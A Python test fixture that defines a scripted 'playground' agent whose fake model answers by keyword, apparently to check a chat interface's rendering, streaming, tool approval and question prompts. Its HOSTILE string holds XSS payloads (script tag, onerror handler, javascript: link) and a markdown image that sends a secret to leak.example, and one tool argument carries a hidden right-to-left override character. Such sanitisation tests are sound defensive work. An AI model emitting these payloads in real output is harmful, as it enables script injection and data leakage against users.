"""An agent without sense: the person's first word says what its model does."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncGenerator, Sequence
from typing import Any

from sagents_app.engine import Agent, FunctionModel, Message, ModelRequest, tool
from sagents_app.engine.deltas import Delta, FinishDelta, TextDelta, ThinkingDelta, ToolCallDelta
from sagents_app.engine.middlewares import AskUserQuestion, HumanInTheLoop
from sagents_app.services import agents

HOSTILE = """Hello <script>document.title = "owned"</script> <img src=x onerror=alert(1)>

![leak](https://leak.example/?secret=1) [click](javascript:alert(1)) [fine](https://fine.example/)

```python
print("<b>not bold</b>")
```
"""
QUESTION = {
    "question": "Which colour?",
    "response_type": "single_select",
    "options": [{"label": "Red", "value": "red"}, {"label": "Blue", "value": "blue"}],
    "allow_other": True,
}


@tool
def pay(amount: int, memo: str = "") -> str:
    """Pay somebody."""
    return f"Paid {amount}."


@tool(read_only=True)
def look() -> str:
    """Look at something."""
    return "x" * 5_000


async def answer(request: ModelRequest) -> AsyncGenerator[Sequence[Delta]]:
    """Yield what the person's words ask for."""
    last = request.messages[-1]
    words = next(m.text for m in reversed(request.messages) if m.role == "user")
    deltas = after_tool(last) if last.role == "tool" else begin(words)
    async for delta in paced(deltas, slowly=words.startswith("slow")):
        yield (delta,)


async def paced(deltas: Sequence[Delta], *, slowly: bool) -> AsyncGenerator[Delta]:
    for delta in deltas:
        await asyncio.sleep(0.1 if slowly else 0)
        yield delta


def begin(words: str) -> list[Delta]:
    match words.split()[0]:
        case "hostile":
            return [TextDelta(HOSTILE), FinishDelta()]
        case "think":
            return [ThinkingDelta(text="Let me see."), TextDelta("Seen."), FinishDelta()]
        case "slow":
            return [TextDelta(f"word{number} ") for number in range(60)] + [FinishDelta()]
        case "ask":
            return call("ask_user", QUESTION)
        case "pay":
            return call("pay", {"amount": 10, "memo": "as agreed\u202e"})
        case "pay-twice":
            return [*call("pay", {"amount": 1})[:-1], *call("pay", {"amount": 2}, index=1)]
        case "look":
            return call("look", {})
        case "break":
            raise RuntimeError("the model is out of order")
        case _:
            return [TextDelta(f"You said: {words}"), FinishDelta()]


def call(name: str, arguments: dict[str, Any], *, index: int = 0) -> list[Delta]:
    import json

    return [
        ToolCallDelta(index=index, name=name),
        ToolCallDelta(index=index, arguments=json.dumps(arguments)),
        FinishDelta(),
    ]


def after_tool(message: Message) -> list[Delta]:
    told = "; ".join(result.text[:300] for result in message.tool_results)
    return [TextDelta(f"It came back: {told}"), FinishDelta()]


@agents.register("playground", label="playground")
def build(conversation: Any) -> Agent:
    return Agent(
        name="playground",
        model=FunctionModel(answer, name="playground"),
        tools=[pay, look],
        middlewares=[HumanInTheLoop({"pay": True}), AskUserQuestion()],
    )
